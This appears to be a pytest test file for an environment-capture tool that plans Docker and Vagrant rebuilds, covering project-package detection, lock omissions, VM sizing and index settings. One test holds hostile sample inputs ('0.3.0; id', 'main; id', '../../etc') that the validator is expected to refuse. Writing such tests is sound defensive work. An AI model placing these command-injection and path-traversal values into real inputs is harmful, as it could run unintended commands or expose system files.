    assert (p.project.name, p.project.version, p.project.editable) == ("My_Proj", "0.3.0", True)
    assert (p.project.commit, p.project.dirty, p.project.source) == (COMMIT, True, "/work/proj")
    assert p.project_in_kit is False
    # Named once, as the project (not also as a generic local folder).
    assert not_reproduced(p, "python_packages") == {
        "my-proj": "the project: expected from project/, not installed (copy its source into project/, or "
                   "generate with --with-code, and build again)"}
    assert not [o for o in p.lock.omitted + p.cpu_lock.omitted if o.name == "My_Proj"]
    assert not any(w.startswith("My_Proj:") for w in p.warnings)


def test_with_code_the_project_is_in_the_kit_and_not_named_missing():
    p = plan(with_project(project_package(kind="directory", url="file:///work/proj/")), with_code=True)
    assert p.project.editable is False and p.project_in_kit is True
    assert not_reproduced(p, "python_packages") == {}


def test_a_checkout_of_the_recorded_commit_elsewhere_is_the_project_too():
    code = {"commit": COMMIT, "dirty": True}
    package = project_package(url="file:///elsewhere/proj", subdirectory="python/pkg",
                              checkout={"commit": COMMIT, "dirty": False})
    p = plan(with_project(package, root="/work/proj", code=code))
    assert p.project is not None and p.project.commit == COMMIT and p.project.source == "/elsewhere/proj"
    assert p.project.dirty is False  # the checkout's own record, not the code record's
    assert p.project.subdirectory == "python/pkg"
    other = project_package(url="file:///elsewhere/proj", checkout={"commit": "b" * 40, "dirty": False})
    assert plan(with_project(other, root="/work/proj", code=code)).project is None


def test_without_a_checkout_record_the_project_is_dirty_when_the_code_was():
    p = plan(with_project(project_package(), code={"commit": COMMIT, "dirty": True}))
    assert (p.project.commit, p.project.dirty) == (COMMIT, True)
    p = plan(with_project(project_package(), code={"commit": None, "dirty": False}))
    assert (p.project.commit, p.project.dirty) == (None, False)


def test_the_project_is_taken_out_of_the_locks_omitted_list_and_other_folders_stay():
    data = with_project(project_package(checkout={"commit": COMMIT}))
    data["python_packages"].append(project_package(url="file:///work/aaa-tool", name="aaa-tool"))
    data["python_packages"].append(project_package(url="file:///work/zzz-tool", name="zzz-tool"))
    p = plan(data)
    assert [o.name for o in p.lock.omitted] == ["aaa-tool", "zzz-tool"]
    assert [o.name for o in p.cpu_lock.omitted] == ["aaa-tool", "zzz-tool"]
    assert set(not_reproduced(p, "python_packages")) == {"my-proj", "aaa-tool", "zzz-tool"}


def test_other_local_folders_are_not_the_project():
    other = project_package(url="file:///work/other", name="other")
    p = plan(with_project(other))
    assert p.project is None
    assert "installed from a local folder" in not_reproduced(p, "python_packages")["other"]
    assert plan(with_project(project_package(kind="index"))).project is None
    assert plan(with_project(project_package(url="https://example.org/proj"))).project is None
    assert plan(with_project(project_package(url="file://"))).project is None
    nocommit = project_package(url="file:///elsewhere", checkout={"commit": None})
    assert plan(with_project(nocommit, code={"commit": None})).project is None
    assert plan(with_project(project_package(), root=None)).project is None


@pytest.mark.parametrize("change, where", [
    ({"name": "my proj"}, r"python_packages\[\d+\]\.name"),
    ({"version": "0.3.0; id"}, r"python_packages\[\d+\]\.version"),
    ({"subdirectory": "../../etc"}, r"python_packages\[\d+\]\.source\.subdirectory"),
    ({"checkout": {"commit": "main; id"}}, r"python_packages\[\d+\]\.source\.checkout\.commit"),
])
def test_hostile_project_values_are_refused(change, where):
    package = project_package(checkout={"commit": COMMIT})
    for key, value in change.items():
        (package if key in ("name", "version") else package["source"])[key] = value
    with pytest.raises(BadInput, match=where):
        plan(with_project(package))


# ------------------------------------------------------------------------------------------------- the VM size

@pytest.mark.parametrize("logical, physical, memory, cpus, memory_mb", [
    (64, 32, 512 * GIB, 8, 16384),
    (None, 4, 12 * GIB, 4, 6144),
    (None, None, None, 2, 2048),
    (1, 1, 2 * GIB, 1, 2048),
    (3, 2, 5 * GIB - 1, 3, 2559),
])
def test_the_vm_gets_half_the_memory_and_the_cores_within_limits(logical, physical, memory, cpus, memory_mb):
    data = debian()
    data["hardware"].update({"logical_cores": logical, "physical_cores": physical, "memory_total": memory})
    p = plan(data)
    assert (p.cpus, p.memory_mb) == (cpus, memory_mb)


def test_the_vagrant_box_is_the_captured_release_when_one_exists():
    p = plan(on(debian(manual=[("jq", "1.7.1-3build1")]), "ubuntu", "22.04", "jammy"))
    assert (p.vagrant_box, p.vagrant_box_exact, p.vm_os) == ("bento/ubuntu-22.04", True, ("ubuntu", "22.04"))
    assert p.cloud_image == bases.CLOUD_IMAGES[("ubuntu", "22.04")]
    assert p.vm_system_install is True
    p = plan(on(debian(manual=[("jq", "1.0")]), "fedora", "40", None))
    assert (p.vagrant_box, p.vagrant_box_exact, p.vm_os) == ("debian/bookworm64", False, bases.DEFAULT_VAGRANT_BOX)
    assert p.vm_system_install is False
    assert plan(debian()).vm_system_install is False  # nothing to install


# ----------------------------------------------------------------------------------------- header and indexes

def test_the_header_names_the_command_and_the_manifest_hash():
    p = plan(debian())
    assert p.header_lines[1:] == ["  envcapture generate docker -m m.json", "manifest sha256: " + "ab" * 32]
    assert p.header_lines[0].startswith(f"Generated by envcapture {p.version};")


def test_uv_takes_the_best_match_across_indexes_only_when_there_are_extra_indexes():
    data = debian()
    assert plan(data).uv_index_args == []
    data["python_packages"].append({"name": "torch", "version": "2.5.1+cu124", "installer": "pip",
                                    "source": {"kind": "index"}})
    assert plan(data).uv_index_args == ["--index-strategy", "unsafe-best-match"]


def test_local_indexes_are_a_warning():
    data = debian()
    data["python"]["package_indexes"] = {"index_url": "file:///opt/pypi/simple"}
    assert any(w.startswith("pip was configured with the local index file:///opt/pypi/simple")
               for w in plan(data).warnings)
